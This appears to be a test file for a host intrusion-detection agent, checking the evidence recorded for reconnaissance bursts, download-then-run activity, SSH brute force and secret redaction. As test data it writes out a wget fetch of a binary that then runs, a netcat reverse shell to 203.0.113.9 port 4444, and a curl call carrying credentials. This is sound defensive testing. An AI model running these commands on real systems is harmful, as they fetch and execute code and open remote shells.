import assert from 'node:assert/strict';
import { evidenceOf } from '../../../../src/agent/detections/alerts/evidence.ts';
import { builtInRules } from '../../../../src/agent/detections/built-in.ts';
import { Detector } from '../../../../src/agent/detections/detector.ts';
import type { Hit } from '../../../../src/agent/detections/subject.ts';
import { subjectOf } from '../../../../src/agent/detections/subjects.ts';
import { SetClock } from '../rules.ts';

const START = 1_780_000_000_000;

/** What the shipped rules find in events that follow one another by a second. */
function hitsOf(events: readonly Readonly<Record<string, unknown>>[]): readonly Hit[] {
  const clock = new SetClock();
  const detector = new Detector({ rules: builtInRules().rules, clock });
  return events.flatMap(({ event = 'ProcessCreate', ...payload }, index) => {
    const all = { ProcessId: index + 10, ParentProcessId: 5, UserId: '1000', UserName: 'eve', ...payload };
    const subject = subjectOf({ name: String(event), payload: all, time: START + index * 1_000 });
    clock.at += 1_000;
    return subject === undefined ? [] : detector.evaluate(subject);
  });
}
const start = (CommandLine: string) => ({ Executable: `/usr/bin/${CommandLine.split(' ')[0]}`, CommandLine });
const detailsOf = (hit: Hit | undefined, redact = true) => {
  assert.ok(hit !== undefined);
  return evidenceOf(hit, 'T', { redact }).details;
};

describe('The evidence of a correlation', () => {
  it('lists every command of a reconnaissance burst in order', () => {
    const commands = ['whoami', 'id', 'uname -a', 'hostname', 'last', 'lscpu'];
    const hit = hitsOf(commands.map(start)).find(({ count }) => count === 6);
    assert.deepEqual(detailsOf(hit).Commands?.split('\n'), commands);
    assert.equal(hit?.since, START);
  });

  it('contains the URL and the file of a program that was downloaded and executed', () => {
    const download = 'wget -q http://203.0.113.9/x.bin -O /tmp/x.bin';
    const hit = hitsOf([start(download), { Executable: '/tmp/x.bin', CommandLine: '/tmp/x.bin -d' }]).find(
      ({ rule, count }) => count !== undefined && rule.alert === 'IoT_DownloadFileThenRun',
    );
    const { Commands, Url, CorrelatedBy } = detailsOf(hit);
    assert.deepEqual(
      [Commands?.split('\n').length, Url, CorrelatedBy],
      [2, 'http://203.0.113.9/x.bin', 'file=/tmp/x.bin'],
    );
  });

  it('contains the first time of a brute force, and a count for each address', () => {
    const login = (n: number) => ({
      event: 'Login',
      ...{ Operation: 'Login', Result: 'Fail', Executable: '/usr/sbin/sshd', UserName: 'root', UserId: undefined },
      RemoteAddress: n % 3 === 0 ? '203.0.113.1' : `203.0.113.${n + 10}`,
    });
    const hit = hitsOf(Array.from({ length: 21 }, (_, n) => login(n))).find(
      ({ group }) => group?.some(({ name, value }) => name === 'UserName' && value === 'root') === true,
    );
    assert.equal(hit?.since, START);
    const addresses = detailsOf(hit).Addresses?.split(';') ?? [];
    assert.deepEqual([addresses[0], addresses.length], ['203.0.113.1 (7)', 14]);
  });

  it('redacts secrets in commands, and limits their length', () => {
    const events = Array.from({ length: 60 }, (_, n) => ({
      ...{ source: 'process_creation' as const, count: 1 },
      summary: `curl -u admin:hunter2 http://192.0.2.1/${n} ${'x'.repeat(300)}`,
    }));
    const [hit] = hitsOf([start('nc -e /bin/sh 203.0.113.9 4444')]);
    const { Commands = '' } = detailsOf({ ...(hit as Hit), count: 60, events });
    assert.ok(!Commands.includes('hunter2'));
    assert.ok(Commands.length <= 4_096 && Commands.split('\n').length <= 24);
  });
});
